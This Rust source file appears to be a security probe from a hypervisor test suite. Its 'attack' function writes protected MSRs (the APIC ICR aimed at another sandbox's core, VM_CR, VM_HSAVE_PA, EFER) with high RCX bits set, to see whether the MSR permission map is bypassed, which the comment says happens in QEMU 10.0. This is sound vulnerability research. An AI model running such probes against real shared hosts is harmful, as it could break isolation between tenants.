//! Finds out if bits 63:32 of RCX move the place in the permission map that RDMSR and WRMSR look up. A processor
//! ignores them (APM volume 3, WRMSR); QEMU 10.0 does not, below register 0x2000.

use bulkhead_sdk::{Context, fault, interrupt, println};
use core::arch::asm;
use fuzz_guest::HIGH;

const ICR: u64 = 0x830;
/// Registers of which no guest may write anything: the ICR towards a foreign core, VM_CR, VM_HSAVE_PA, EFER.SVME.
const REGISTERS: [u64; 4] = [ICR, 0xC001_0114, 0xC001_0117, 0xC000_0080];
/// The vector of a fixed interrupt, which the victim does not use.
const VECTOR: u64 = 0x40;

/// Tries all of them, with the x2APIC ID of another sandbox's core. A line each says if it faulted.
pub fn attack(_: Context, foreign: u64) -> u32 {
    for register in REGISTERS {
        for high in HIGH {
            let value = match register {
                ICR => foreign << 32 | VECTOR,
                0xC000_0080 => 0x1D01,
                _ => 0,
            };
            let (rcx, rax, rdx) = (high << 32 | register, value as u32, value >> 32);
            // SAFETY: a fault is caught. A write that goes through is the finding, and nothing here depends on it: EFER
            // is as it was, with a bit that VMRUN needs.
            let done = unsafe {
                fault::catch(|| asm!("wrmsr", in("rcx") rcx, in("eax") rax, in("rdx") rdx))
            };
            interrupt::disable();
            println!(
                "{register:#x} with {high:#x}: {}",
                if done.is_ok() { "written" } else { "refused" }
            );
        }
    }
    0
}
